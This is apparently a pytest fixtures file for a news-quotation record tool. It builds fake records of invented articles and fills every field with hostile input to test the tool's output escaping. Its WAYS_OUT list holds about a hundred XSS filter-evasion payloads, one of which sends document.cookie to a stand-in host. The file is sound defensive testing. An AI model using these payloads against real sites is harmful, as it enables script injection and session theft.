"""A record in memory, made from invented coverage, for everything that shows records."""

from __future__ import annotations

import datetime
import re
import shutil
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import TYPE_CHECKING, Any, Self

import pytest
from playwright.sync_api import sync_playwright

from onrecord.run.applying import Applied
from onrecord.run.checking.fault import Fault
from onrecord.show.export.tables import TABLES
from onrecord.terms import (
    Caution,
    Commitment,
    Conflict,
    Correction,
    CorrectionKind,
    Count,
    Counts,
    Difference,
    Document,
    Entity,
    Event,
    Evidence,
    Findings,
    Furniture,
    Hit,
    Likeness,
    Line,
    Mention,
    Mode,
    Noted,
    Origin,
    Position,
    Problem,
    Question,
    Reading,
    ReportedCaution,
    ReportedCommitment,
    ReportedEvent,
    Role,
    Span,
    Spelling,
    Statement,
    Story,
    Trace,
    Utterance,
    Weighing,
    When,
    conflict_id,
    content_id,
    correction_id,
    mention_id,
    position_id,
    sha256,
    statement_id,
)

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Iterator

    from playwright.sync_api import Browser

    from onrecord.terms import StanceValue

TRACE = Trace("test", "1")


#: One or more of each family in the OWASP collection on evading filters: elements, handlers, schemes, encodings,
#: comments, broken quotes, style sheets, templates, mutation by parsing twice.
WAYS_OUT = (
    "<script>alert(1)</script>", "<ScRiPt >alert(1)</sCrIpT>", "<script/src=https://example.org/x.js></script>",
    "<script\x20type=text/javascript>alert(1)</script>", "<<script>alert(1)//<</script>", "<script>alert(1)<!--",
    "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<img/src/onerror=alert(1)>", "<img src=`x` onerror=alert(1)>", '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=alert(1)>", "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=data:text/html,x>",
    "<embed src=javascript:alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>", "<form><button formaction=javascript:alert(1)>x",
    "<a href=javascript:alert(1)>x</a>", "<a href='jav&#x09;ascript:alert(1)'>x</a>", "javascript:alert(1)",
    "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", 'https://x" onmouseover=alert(1) x="',
    "http://x' onfocus='alert(1)", "//example.org/x", "<base href=https://example.org/>", "<meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=https://example.org/y.css>", "<style>@import 'https://example.org/z.css';</style>",
    "<style>body{background:url(https://example.org/i)}</style>", "<div style=background:url(https://example.org/j)>x</div>",
    "</style><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>", "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml version=1?><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\x3cscript\\x3ealert(1)", "+ADw-script+AD4-alert(1)", "＜script＞alert(1)＜/script＞", "{{ 7*7 }}", "{% include 'x' %}",
    "${alert(1)}", "#{alert(1)}", "<%= 7*7 %>", "' onmouseover='alert(1)", '" onfocus="alert(1)" autofocus="', "`onload=alert(1)",
    "</mark></p></div></article><script>alert(1)</script>", "</bdi><svg onload=alert(1)>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>", "<img src=x onerror=\x00alert(1)>", "<img src=x onerror\x0b=alert(1)>", "<a\x0chref=javascript:alert(1)>x",
    "<script>fetch('https://example.org/?'+document.cookie)</script>", "<img src=1 href=1 onerror=alert(1)></img>",
    "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>", "<xss onclick=alert(1) tabindex=1>",
    "<xss autofocus tabindex=1 onfocus=alert(1)></xss>", "<dialog open onclose=alert(1)><form method=dialog><button autofocus>x",
    "<form id=form><input name=form value=x></form>", "<input name=form value=stolen>", "</form><form action=https://example.org/>",
    "<button form=by-merge formaction=https://example.org/>x", "<a href='https://example.org/' target=_top>x</a>",
    "<a id=here name=here>x</a>", "<img name=body>", "<form name=getElementById>", "</script><img src=x onerror=alert(1)>",
    "</select><script>alert(1)</script>", "</option></select><img src=x onerror=alert(1)>", "</textarea><img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>"', "%3Cscript%3Ealert(1)%3C/script%3E", "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
    "\u2028<script>alert(1)</script>", "\ufeff<script>alert(1)</script>", "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202e<script>alert(1)</script>", "<svg><style>{font-family:'<iframe/onload=alert(1)>'", "<link rel=import href=https://example.org/>",
    "<object type=text/x-scriptlet data=https://example.org/>", "<portal src=https://example.org/>", "x' || alert(1) || '",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class FakeVerified:
    documents: int
    spans: int
    broken: tuple[str, ...]


@dataclass
class FakeRecord:
    """A record in memory with the questions that `show` asks."""

    path: Path = Path("story.record")
    _documents: list[Document] = field(default_factory=list)
    _lines: list[Line] = field(default_factory=list)
    _problems: list[Problem] = field(default_factory=list)
    _likenesses: list[Likeness] = field(default_factory=list)
    _corrections: list[Correction] = field(default_factory=list)
    broken: tuple[str, ...] = ()
    _utterances: list[Utterance] = field(default_factory=list)
    _origins: list[Origin] = field(default_factory=list)
    _findings: dict[str, Findings] = field(default_factory=dict)
    _stories: list[Story] = field(default_factory=list)
    weighing: Weighing = field(default_factory=Weighing)
    faults: tuple[Fault, ...] = ()

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        """Nothing to close."""

    def add(self, name: str, text: str, **facts: str) -> Document:
        """Add an article; ``facts`` are title, outlet, byline, published, address, language."""
        noted = {
            fact: Noted(facts[fact], None, "test") if fact in facts else None
            for fact in ("title", "outlet", "byline", "dateline", "published", "address")
        }
        raw = text.encode("utf-8", "backslashreplace")
        document = Document(
            id=content_id("document", name, text), name=name, sha256=sha256(raw), codec="utf-8",
            media_type="text/plain", text=text, text_sha256=sha256(raw), language=facts.get("language", "en"),
            furniture=(), trace=TRACE, **noted,
        )  # fmt: skip
        self._documents.append(document)
        return document

    def furnish(self, document: Document, words: str) -> Document:
        """Mark some words of an article as no part of it."""
        start = document.text.index(words)
        marked = replace(document, furniture=(Furniture(Span.of(document.text, start, start + len(words)), "menu"),))
        self._documents[self._documents.index(document)] = marked
        return marked

    def say(
        self,
        document: Document,
        content: str | tuple[str, ...],
        *,
        source: str = "",
        cue: str = "",
        mode: Mode = "direct",
        speaker: Entity | None = None,
        said_on: str = "",
        **more: object,
    ) -> Line:
        """Add a line; each part is found in the text of the article by its words."""
        parts = (content,) if isinstance(content, str) else content
        spans = tuple(_span(document.text, part) for part in parts)
        sources = (_span(document.text, source),) if source else ()
        cues = (_span(document.text, cue),) if cue else ()
        day = datetime.date.fromisoformat(said_on) if said_on else None
        statement = Statement(
            id=statement_id(document.id, sources, cues, spans), document=document.id, mode=mode, source=sources,
            cue=cues, content=spans, place="body", said_on=When(day, day, None, "none", None, sure=True) if day else None,
            occasion=None, via=_span(document.text, str(more["via"])) if "via" in more else None, inside=None,
        )  # fmt: skip
        sureness = "sure" if speaker and "reasons" not in more else "unsure"
        reasons = more.get("reasons", ())
        assert isinstance(reasons, tuple)
        line = Line(statement, document, speaker, "sure" if sureness == "sure" else "unsure", reasons)
        self._lines.append(line)
        return line

    def place(self, document: Document, ranges: list[tuple[int, int]], *, mode: Mode = "indirect") -> Line:
        """Add a line led to nobody whose content stands at these ranges."""
        spans = tuple(Span.of(document.text, *each) for each in ranges)
        statement = Statement(
            id=statement_id(document.id, (), (), spans), document=document.id, mode=mode, source=(), cue=(),
            content=spans, place="body", said_on=None, occasion=None, via=None, inside=None,
        )  # fmt: skip
        line = Line(statement, document, None, "unsure", ())
        self._lines.append(line)
        return line

    def cut(self, document: Document, words: str) -> Span:
        """The span of some words of an article."""
        return _span(document.text, words)

    def fail(self, name: str, message: str) -> None:
        """Note an input that could not be read."""
        self._problems.append(Problem(name, "failed", "binary", message))

    def documents(self) -> tuple[Document, ...]:
        return tuple(self._documents)

    def statements(
        self, *, speaker: str | None = None, document: str | None = None, mode: Mode | None = None
    ) -> tuple[Line, ...]:
        return tuple(
            line
            for line in self._lines
            if (speaker is None or (line.speaker and speaker.casefold() in line.speaker.name.casefold()))
            and document in {None, line.document.name, line.document.id}
            and mode in {None, line.statement.mode}
        )

    def entities(self, name: str | None = None) -> tuple[Entity, ...]:
        known = {line.speaker.id: line.speaker for line in self._lines if line.speaker}
        return tuple(entity for entity in known.values() if name is None or name.casefold() in entity.name.casefold())

    def likenesses(self) -> tuple[Likeness, ...]:
        return tuple(self._likenesses)

    def utterances(self) -> tuple[Utterance, ...]:
        return tuple(self._utterances)

    def origins(self) -> tuple[Origin, ...]:
        return tuple(self._origins)

    def origins_of(self, document_id: str) -> tuple[Origin, ...]:
        return tuple(row for row in self._origins if row.document == document_id)

    def stories(self) -> tuple[Story, ...]:
        return tuple(self._stories)

    def close(self) -> None:
        """Nothing to close."""

    def generation(self) -> int:
        return len(self._corrections) + sum(not made.stands for made in self._corrections)

    def holding(self, words: str) -> frozenset[str]:
        return frozenset(document.id for document in self._documents if words in document.text)

    def hits(self, words: str, document: Document, *, limit: int | None = None) -> tuple[Hit, ...]:
        spans = [
            Span.of(document.text, found.start(), found.end()) for found in re.finditer(re.escape(words), document.text)
        ]
        lines = [line.statement for line in self._lines if line.document.id == document.id]
        return tuple(
            Hit(document, span, tuple(line.id for line in lines if any(span.within(each) for each in line.content)))
            for span in spans
        )[:limit]

    def findings(self, document_id: str) -> Findings:
        own = tuple(line.statement for line in self._lines if line.document.id == document_id)
        return self._findings.get(document_id, Findings(document_id, own, (), ()))

    def questions(self) -> tuple[Question, ...]:
        return self.weighing.questions

    def positions(self, question: str | None = None) -> tuple[Position, ...]:
        return tuple(item for item in self.weighing.positions if question in {None, item.question})

    def ask(self, question: str | Question) -> Question:
        asked = Question(question) if isinstance(question, str) else question
        held = tuple(each for each in self.weighing.questions if each.title != asked.title)
        self.weighing = replace(self.weighing, questions=(*held, asked))
        return asked

    def forget(self, title: str) -> bool:
        held = tuple(each for each in self.weighing.questions if each.title != title)
        forgotten = len(held) < len(self.weighing.questions)
        self.weighing = replace(self.weighing, questions=held)
        return forgotten

    def commitments(self) -> tuple[Commitment, ...]:
        return self.weighing.commitments

    def cautions(self) -> tuple[Caution, ...]:
        return self.weighing.cautions

    def events(self) -> tuple[Event, ...]:
        return self.weighing.events

    def check(self, data: bytes, *, name: str) -> tuple[Fault, ...]:
        return self.faults if data.strip() else ()

    def conflicts(self) -> tuple[Conflict, ...]:
        return self.weighing.conflicts

    def find(self, words: str, *, limit: int = 50) -> tuple[Hit, ...]:
        hits = []
        for document in self._documents:
            at = document.text.find(words)
            if at >= 0:
                span = Span.of(document.text, at, at + len(words))
                holds = [
                    row.statement.id
                    for row in self.statements(document=document.id)
                    if any(span.within(c) for c in row.statement.content)
                ]
                hits.append(Hit(document, span, tuple(holds)))
        return tuple(hits[:limit])

    def problems(self) -> tuple[Problem, ...]:
        return tuple(self._problems)

    def corrections(self) -> tuple[Correction, ...]:
        return tuple(self._corrections)

    def correct(
        self, kind: CorrectionKind, subjects: tuple[str, ...], *, value: str = "", reason: str = "", by: str,
        on: str | None = None,
    ) -> Correction:  # fmt: skip
        when = on or "2031-05-04T10:00:00+00:00"
        made = Correction(
            correction_id(kind, subjects, value, by, when), kind, subjects, value, reason, by, when, None, None
        )
        self._corrections.append(made)
        return made

    def undo(self, correction_id: str, *, by: str, on: str | None = None) -> Correction:
        index = next(i for i, made in enumerate(self._corrections) if made.id == correction_id)
        undone = replace(self._corrections[index], undone_on=on or "2031-05-05T10:00:00+00:00", undone_by=by)
        self._corrections[index] = undone
        return undone

    def export_corrections(self) -> str:
        return "".join(f"{made.kind}: {', '.join(made.subjects)}\n" for made in self._corrections)

    def apply_corrections(self, data: bytes, *, name: str) -> Applied:
        if data == b"bad":
            return Applied((), (), 1, (Problem(name, "failed", "no-toml", "It is bad."),))
        return Applied((self.correct("rename", ("Ada Brook",), value="A. Brook", by="desk"),), (), 0, ())

    def counts(self, lines: Iterable[Line] | None = None) -> Counts:
        documents = (
            self._documents if lines is None else list({line.document.id: line.document for line in lines}.values())
        )
        outlets = {document.outlet.value for document in documents if document.outlet}
        unknown = sum(document.outlet is None for document in documents)
        return Counts(len(documents), Count(len(outlets), unknown), Count(0, len(documents)), Count(0, len(documents)))

    def publisher_of(self, outlet: str) -> str | None:
        return {"Pell Courier": "Pell Press"}.get(outlet)

    def verify(self) -> FakeVerified:
        return FakeVerified(len(self._documents), sum(len(line.statement.content) for line in self._lines), self.broken)

    def rows(self, table: str) -> Iterator[dict[str, object]]:
        assert table in TABLES
        rows: list[dict[str, object]] = []
        if table == "documents":
            rows += [{"id": doc.id, "name": doc.name, "text": doc.text} for doc in self._documents]
        if table == "statements":
            rows += [_statement_row(line) for line in self._lines]
        if table == "entities":
            rows += [{"id": entity.id, "kind": entity.kind, "name": entity.name} for entity in self.entities()]
        if table == "utterances":
            rows += [{"id": item.id, "statements": list(item.statements)} for item in self._utterances]
        if table == "origins":
            rows += [{"document": item.document, "relation": item.relation} for item in self._origins]
        yield from rows


def _statement_row(line: Line) -> dict[str, object]:
    return {
        "id": line.statement.id,
        "document": line.document.name,
        "mode": line.statement.mode,
        "speaker": line.speaker.name if line.speaker else None,
        "content_spans": [[span.start, span.end] for span in line.statement.content],
        "content": " … ".join(span.exact for span in line.statement.content),
    }


def _span(text: str, words: str) -> Span:
    start = text.index(words)
    return Span(start, start + len(words), words)


def actor(name: str, *, role: str = "", document: str = "") -> Entity:
    """A person under one spelling, with or without a title."""
    roles = (Role(role, document, Span(0, len(role), role), "current"),) if role else ()
    return Entity(content_id("entity", name), "person", name, (Spelling(name, (document,)),), roles, None, ())


@pytest.fixture(scope="session")
def ways_out() -> tuple[str, ...]:
    """Texts that would run or fetch something if a page let them."""
    return WAYS_OUT


@pytest.fixture(scope="session")
def browser() -> Iterator[Browser]:
    """Headless Chromium as Debian installs it."""
    path = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if path is None:
        pytest.fail("These tests need Chromium: apt-get install chromium (`make test` does it).")
    with sync_playwright() as play:
        started = play.chromium.launch(executable_path=path, args=["--no-sandbox", "--disable-dev-shm-usage"])
        yield started
        started.close()


@pytest.fixture
def empty() -> FakeRecord:
    """A record with nothing in it."""
    return FakeRecord()


@pytest.fixture(scope="session")
def new_record() -> Callable[[], FakeRecord]:
    """Makes empty records, for tests that need many."""
    return FakeRecord


@pytest.fixture
def new_actor() -> Callable[..., Entity]:
    """Makes actors."""
    return actor


COURIER = """Brook rules out closing Pell harbour

By Ines Tarn

PELL, 3 May 2031 - “The harbour stays open,” harbour minister Ada Brook said on Friday. “We will not be told otherwise.”

She added that talks with the dockers might resume next week.
Subscribe to our newsletter
"""

LANTERN = """Dockers want answers

Union leader Tom Reeve told the Pell Courier that Brook had promised “a decision within days”.
"""


@pytest.fixture
def story() -> FakeRecord:
    """Two invented articles: quoted, partly quoted and paraphrased lines, furniture, a doubt and a failed input."""
    record = FakeRecord()
    courier = record.add(
        "courier.txt", COURIER, title="Brook rules out closing Pell harbour", outlet="Pell Courier",
        byline="Ines Tarn", published="2031-05-03",
    )  # fmt: skip
    courier = record.furnish(courier, "Subscribe to our newsletter")
    lantern = record.add("lantern.txt", LANTERN, title="Dockers want answers", published="2031-05-04T09:30")
    brook = actor("Ada Brook", role="harbour minister", document=courier.id)
    reeve = actor("Tom Reeve", role="union leader", document=lantern.id)
    record.say(
        courier, ("The harbour stays open,", "We will not be told otherwise."), source="harbour minister Ada Brook",
        cue="said", speaker=brook, said_on="2031-05-02",
    )  # fmt: skip
    record.say(
        courier, "talks with the dockers might resume next week", source="She", cue="added", mode="indirect",
        speaker=brook, reasons=("“She” is the person named last before it",),
    )  # fmt: skip
    record.say(
        lantern, "Brook had promised “a decision within days”", source="Union leader Tom Reeve", cue="told",
        mode="mixed", speaker=reeve, via="told the Pell Courier",
    )  # fmt: skip
    record.fail("broken.bin", "The file holds no text.")
    return record


@pytest.fixture(scope="session")
def hostile() -> Callable[[str], FakeRecord]:
    """Makes a record with the same words in every slot that a stranger can fill."""
    return _hostile


def _hostile(words: str) -> FakeRecord:
    record = FakeRecord()
    document = record.add(
        f"{words}.txt", f"{words} said {words}, told {words}.\n{words}\n", title=words, outlet=words, byline=words,
        published=words, address=words, dateline=words,
    )  # fmt: skip
    speaker = actor(words, role=words, document=document.id)
    record.say(document, words, source=words, cue="said", speaker=speaker, via=f"told {words}", reasons=(words,))
    record.say(document, f"{words}, told", mode="indirect", speaker=speaker)
    record.fail(words, words)
    record.correct("rename", (words,), value=words, reason=words, by=words, on=words)
    return record


#: The question of the invented dispute about a ferry.
TITLE = "closing the night ferry"


def day(number: int) -> When:
    """A day of May 2031."""
    on = datetime.date(2031, 5, number)
    return When(on, on, None, "none", None, sure=True)


@pytest.fixture
def ferry(empty: Any, new_actor: Any) -> Any:
    """Three articles: two quote one sentence, the third retells; an actor moves, and the fares differ."""
    mail = empty.add(
        "mail.txt", "“We will close it if the fares fall,” Mara Pell said. The fare is 4 crowns.", outlet="Mail",
        title="Ferry may close", published="2031-05-02",
    )  # fmt: skip
    post = empty.add(
        "post.txt", "“We might close it,” Mara Pell said of Oren Vale.\nThe fare is 5 crowns.", outlet="Post",
        title="Ferry in doubt", published="2031-05-03",
    )  # fmt: skip
    echo = empty.add(
        "echo.txt", "Mara Pell opposes closing it now, the Mail says.", title="A turn", published="2031-05-06"
    )
    pell = new_actor("Mara Pell", role="ferry minister", document=mail.id)
    vale = new_actor("Oren Vale")
    one = empty.say(
        mail, "We will close it if the fares fall,", source="Mara Pell", cue="said", speaker=pell, said_on="2031-05-02"
    )
    two = empty.say(post, "We might close it,", source="Mara Pell", cue="said", speaker=pell)
    empty.say(post, "of Oren Vale", mode="indirect", speaker=vale)
    ids = (one.statement.id, two.statement.id)
    will = Difference("modality", *ids, (empty.cut(mail, "will"),), (empty.cut(post, "might"),))
    cond = Difference("condition dropped", *ids, (empty.cut(mail, "if the fares fall"),), ())
    empty._utterances.append(Utterance("u1", pell.id, ids, (will, cond), "same", ("the same words",)))
    empty._origins += [
        Origin(mail.id, "Mail", "own report", None, (), (), ("nobody else is named",), "mail"),
        Origin(post.id, "Mail", "retells", mail.id, (), (ids[1],), ("it says so",), "mail"),
        Origin(echo.id, "Mail", "retells", mail.id, (), (), ("it says so",), "mail"),
    ]
    named = empty.cut(post, "Oren Vale")
    statements = tuple(line.statement for line in (two, *empty.statements(document=post.name)[1:]))
    empty._findings[post.id] = Findings(
        post.id, statements, (Mention(mention_id(post.id, "person", named), post.id, named, "person"),), ()
    )
    told = ReportedEvent("r1", mail.id, (empty.cut(mail, "The fare is 4 crowns"),), None, day(2), (), (), "past", None)
    empty._findings[mail.id] = Findings(mail.id, (one.statement,), (), (), events=(told,))
    empty.weighing = _weighing(empty, pell, (mail, post, echo), ids)
    return empty


def _weighing(record: Any, actor: Any, documents: Any, ids: tuple[str, str]) -> Weighing:
    mail, post, echo = documents
    condition = (record.cut(mail, "if the fares fall"),)

    def position(value: StanceValue, at: Any, document: Any, words: str, **more: Any) -> Position:
        evidence = Evidence(
            document.id, more.get("line"), None, "own words", value, (record.cut(document, words),), at, ("why",)
        )
        return Position(
            position_id(TITLE, actor.id, value, None), TITLE, actor.id, "ministry", None, value, more.get("condition", ()),
            document.id if more.get("condition") else None, at, more["moved"], (evidence,), ("because",),
        )  # fmt: skip

    readings = (
        Reading("4", mail.id, (record.cut(mail, "4"),)), Reading("5", post.id, (record.cut(post, "5"),)),
    )  # fmt: skip
    quiet = (Reading("Mara", mail.id, ()), Reading("M.", post.id, ()))
    event = Event("e1", "the fare is set", day(2), "Pell", (actor.id,), "past", ("r1",), ("one report",))
    return Weighing(
        questions=(Question(TITLE, ("ending it",), "for closing"),),
        positions=(
            position("conditional", day(2), mail, "close it", moved="first stated", condition=condition, line=ids[0]),
            position("opposes", day(6), echo, "opposes", moved="reversed"),
        ),
        events=(event, replace(event, id="e2", when=day(9), standing="planned")),
        conflicts=(
            Conflict(conflict_id("spelling", "Mara Pell", quiet), "spelling", "variant", "Mara Pell", quiet, (), 5),
            Conflict("k1", "number", "contradiction", "the fare", readings, ("they differ",), 1, "e1"),
        ),
    )  # fmt: skip


ON_A_DAY = When(datetime.date(2031, 5, 3), datetime.date(2031, 5, 3), None, "none", None, sure=True)


@pytest.fixture
def armed() -> Callable[[Any], Any]:
    """Makes a record with each of the given payloads in every slot there is."""
    return lambda payloads: _armed(FakeRecord(), payloads)


def _armed(record: Any, payloads: Any) -> Any:
    """A record with every payload in every slot of an article, an actor, a conflict, an event and a position."""
    positions, conflicts, events, questions, commitments, cautions = [], [], [], [], [], []
    for number, payload in enumerate(payloads):
        text = f"{payload} said {payload}, told {payload} twice.\n{payload} again."
        document = record.add(
            f"{number}{payload}", text, title=payload, outlet=payload, byline=payload, dateline=payload,
            published=payload, address=f"https://example.org/{payload}" if number % 2 else payload, language=payload,
        )  # fmt: skip
        speaker = actor(payload, role=payload, document=document.id)
        one = record.say(
            document, payload, source=payload, cue="said", speaker=speaker, via=f"told {payload}", reasons=(payload,)
        )
        two = record.say(document, f"{payload} again", mode="indirect", speaker=speaker)
        record.fail(payload, payload)
        span = Span.of(text, 0, len(payload))
        ids = (one.statement.id, two.statement.id)
        differs = Difference("wording", *ids, (span,), (span,))
        record._utterances.append(Utterance(f"u{number}", speaker.id, ids, (differs,), "same", (payload,)))
        record._origins.append(Origin(document.id, payload, "retells", None, (span,), (), (payload,), payload))
        mention = Mention(mention_id(document.id, "person", span), document.id, span, "person")
        told = ReportedEvent(f"r{number}", document.id, (span,), span, ON_A_DAY, (span,), (span,), "past", None)
        own = tuple(line.statement for line in (one, two))
        given = ReportedCommitment(f"g{number}", document.id, (), (), (span,), None, "pledged", (span,), None, (), None)
        warning = ReportedCaution(
            f"w{number}", document.id, (), (), "red line", "drawn", (span,), (span,), (span,), None
        )
        record._findings[document.id] = Findings(
            document.id, own, (mention,), (), commitments=(given,), cautions=(warning,), events=(told,)
        )
        commitments.append(
            Commitment(
                f"g{number}",
                (),
                (),
                payload,
                payload,
                payload,
                1.0,
                2.0,
                payload,
                "pledged",
                ON_A_DAY,
                (given.id,),
                (payload,),
            )
        )
        cautions.append(
            Caution(
                f"w{number}",
                speaker.id,
                None,
                "red line",
                "drawn",
                payload,
                payload,
                ON_A_DAY,
                (warning.id,),
                (payload,),
            )
        )
        question = Question(payload, (payload,), payload)
        evidence = Evidence(document.id, ids[0], None, "own words", "supports", (span,), ON_A_DAY, (payload,))
        questions.append(question)
        positions.append(
            Position(
                position_id(payload, speaker.id, "conditional", None), payload, speaker.id, "person", None,
                "conditional", (span,), document.id, ON_A_DAY, "hardened", (evidence,), (payload,),
            )
        )  # fmt: skip
        readings = (Reading(payload, document.id, (span,)), Reading(f"{payload}!", document.id, (span,)))
        conflicts.append(
            Conflict(conflict_id("name", payload, readings), "name", "slip", payload, readings, (payload,), 1)
        )
        events.append(Event(f"e{number}", payload, ON_A_DAY, payload, (speaker.id,), "past", (told.id,), (payload,)))
        record._stories.append(Story(f"t{number}", payload, (document.id,)))
        record.correct("rename", (payload,), value=payload, reason=payload, by=payload, on=payload)
    record.weighing = Weighing(
        tuple(questions), tuple(positions), tuple(commitments), tuple(cautions), tuple(events), tuple(conflicts)
    )
    return record
